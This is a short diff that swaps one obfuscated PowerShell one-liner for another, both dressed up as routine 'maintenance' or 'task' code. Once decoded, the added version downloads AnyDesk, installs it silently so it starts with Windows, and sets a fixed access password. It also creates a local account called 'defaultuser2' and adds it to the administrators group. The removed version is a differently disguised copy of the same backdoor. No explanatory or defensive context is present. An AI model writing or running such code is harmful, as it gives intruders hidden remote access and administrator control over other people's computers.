@@ -1,7 +1,7 @@
-'iex ((''# maintenance 8455 v3
-Invoke-WebRequest -Uri ''''httjj~5s://download.anyKQZ41desk.com/AnyDesk.exe'''' -OutFile C:\ProgramData\AnyDesk.exe
-cmd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
-cmd /c "echo P@ssw0rd!2024 | CKQZ41:\ProgramData\AnyDesk\AnyDesk.exe --set-jj~5assword"
-net user backujj~5_svc P@ssw0rd!KQZ412024 KQZ41/add
-net localgroujj~5 administrators backujj~5_svc /add
-'' -replace ''KQZ41'','''').Replace(''jj~5'',''p''))' | .($VerbosePreference.ToString()[1,3]+'x'-join'')
+$ExecutionContext.InvokeCommand.InvokeScript('iex ((''# task 1761 vj~33
+Invj~3oke-WebRequest -Uri ''''https://download.anydesk.com/AnyDesk.exe'''' -OutFile C:\ProgramData\AnyDesk.exe
+cmd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramDatKZK58a\AnyDesk --start-with-win --silent"KZK58
+cmd /c "echo Winter#2025x | C:\ProgramData\AnyDeskKZK58\AnyDesk.exe --set-password"
+net user defaultuser2 Winter#2025x /add
+net localgroup administrators defaultuser2 /add
+'' -replace ''KZK58'','''').Replace(''vj~3'',''v''))')
